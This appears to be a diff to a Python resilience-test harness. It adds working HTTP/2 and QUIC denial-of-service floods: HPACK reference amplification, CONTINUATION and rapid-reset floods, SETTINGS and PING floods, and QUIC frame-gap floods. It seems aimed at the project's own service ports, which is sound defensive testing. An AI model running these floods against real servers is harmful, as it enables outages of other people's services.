@@ -19,6 +19,7 @@ from collections.abc import Callable, Iterator
 from pathlib import Path
 
 import http2_frames as h2
+import quic_frames as quic
 from http3_client import Client
 from sublimate.v1.messages_pb2 import CreateMessageRequest
 
@@ -249,6 +250,106 @@ def quic_storm(
     return did
 
 
+# ---- floods --------------------------------------------------------------------------------------
+LIST = "/sublimate.v1.Messages/ListModels"
+FLOOD_BYTES = 1 << 16
+"""Sent at once."""
+
+
+def http2_flood(first: bytes, parts: list[bytes]) -> "Attack":
+    """One connection after the other: `first`, and then the parts in turn until it is ended."""
+
+    def flood(ports: dict[str, int], _: int, seconds: float, __: Path) -> dict[str, int]:
+        did = {"connections": 0, "KiB": 0, "ended for it": 0}
+        end = time.monotonic() + seconds
+        while time.monotonic() < end:
+            try:
+                connection = h2.Connection(ports["grpc"], 5)
+            except OSError:
+                continue
+            with connection:
+                did["connections"] += 1
+                connection.send(first)
+                for part in itertools.cycle(parts):
+                    if time.monotonic() > end:
+                        break
+                    if not connection.send(part):
+                        did["ended for it"] += 1
+                        break
+                    did["KiB"] += len(part) >> 10
+        return did
+
+    return flood
+
+
+def references(number: int, count: int) -> bytes:
+    """A call whose head refers to a field of 4,000 bytes so many times."""
+    size = bytes([127]) + h2.integer(4000 - 127)
+    block = h2.call_head(LIST) + b"\x40\1x" + size + b"a" * 4000 + b"\xbe" * count
+    return h2.headers(number, block) + h2.frame(h2.DATA, h2.END_STREAM, number, h2.message(b""))
+
+
+def resets() -> list[bytes]:
+    block, reset = h2.call_head(LIST), struct.pack("!I", h2.CANCEL)
+    each = [
+        h2.frame(h2.HEADERS, h2.END_HEADERS, n, block) + h2.frame(h2.RST_STREAM, 0, n, reset)
+        for n in range(1, 200_001, 2)
+    ]
+    return [b"".join(each[at : at + 500]) for at in range(0, len(each), 500)]
+
+
+def repeated(frame: bytes) -> list[bytes]:
+    return [frame * max(1, FLOOD_BYTES // len(frame))]
+
+
+OPENED = h2.frame(h2.HEADERS, 0, 1, h2.call_head(LIST))
+LITERALS = h2.frame(h2.CONTINUATION, 0, 1, h2.field(b"x", b"y" * 100) * 150)
+
+
+def quic_gaps(ports: dict[str, int], _: int, seconds: float, __: Path) -> dict[str, int]:
+    """First packets with pieces of a hello between which others are missing; 500 of one client."""
+    did = {"clients": 0, "datagrams": 0}
+    end = time.monotonic() + seconds
+    while time.monotonic() < end:
+        stranger = quic.Stranger(ports["h3"])
+        did["clients"] += 1
+        for first in range(500):
+            offsets = [1000 + 2 * (60 * first + n) for n in range(60)]
+            stranger.send(b"".join(map(quic.crypto, offsets)))
+            did["datagrams"] += 1
+            if time.monotonic() > end:
+                break
+        stranger.close()
+    return did
+
+
+def http3_flood(frames: Callable[[int], list[bytes]]) -> "Attack":
+    """One connection after the other, each with those frames in the place of a body."""
+
+    def flood(ports: dict[str, int], _: int, seconds: float, certificate: Path) -> dict[str, int]:
+        did = {"connections": 0, "datagrams": 0, "ended for it": 0}
+        end = time.monotonic() + seconds
+        while time.monotonic() < end:
+            client = Client(ports["h3"], certificate)
+            while client.handshake is None and client.ended is None and time.monotonic() < end:
+                client.turn(0.05)
+            if client.handshake is not None:
+                did["connections"] += 1
+                stream_id = client.begin("POST", "/v1/messages", b"{", is_end=False)
+                client.send()
+                for content in quic.packets(frames(stream_id)):
+                    quic.send(client, content)
+                    did["datagrams"] += 1
+                    client.turn(0)
+                    if client.ended is not None or time.monotonic() > end:
+                        break
+            did["ended for it"] += client.ended is not None
+            client.vanish()
+        return did
+
+    return flood
+
+
 Attack = Callable[[dict[str, int], int, float, Path], dict[str, int]]
 ATTACKS: dict[str, Attack] = {
     "slow-loris": slow_loris,
@@ -257,6 +358,25 @@ ATTACKS: dict[str, Attack] = {
     "HTTP/3 resets": quic_storm,
     "TLS ports in clear": tls_in_clear,
 }
+FLOODS: dict[str, Attack] = {
+    "HTTP/2 references": http2_flood(b"", [references(n, 4000) for n in range(1, 2001, 2)]),
+    "HTTP/2 long references": http2_flood(b"", [references(n, 16_000) for n in range(1, 401, 2)]),
+    "HTTP/2 CONTINUATION": http2_flood(OPENED, [LITERALS * 4]),
+    "HTTP/2 empty CONTINUATION": http2_flood(OPENED, repeated(h2.frame(h2.CONTINUATION, 0, 1))),
+    "HTTP/2 resets": http2_flood(b"", resets()),
+    "HTTP/2 SETTINGS": http2_flood(b"", repeated(h2.frame(h2.SETTINGS, 0, 0))),
+    "HTTP/2 PING": http2_flood(b"", repeated(h2.frame(h2.PING, 0, 0, bytes(8)))),
+    "QUIC gaps of a hello": quic_gaps,
+    "QUIC gaps of a body": http3_flood(
+        lambda stream: [quic.stream(stream, 1000 + 2 * n) for n in range(60_000)]
+    ),
+    "QUIC PING": http3_flood(lambda _: [b"\1"] * 60_000),
+    "QUIC small frames": http3_flood(
+        lambda stream: [quic.stream(stream, 6 + n, b"\0\1x"[n % 3 :][:1]) for n in range(60_000)]
+    ),
+}
+"""Those that make as much work as they can out of few bytes."""
+ATTACKS |= FLOODS
 
 
 def main() -> None:
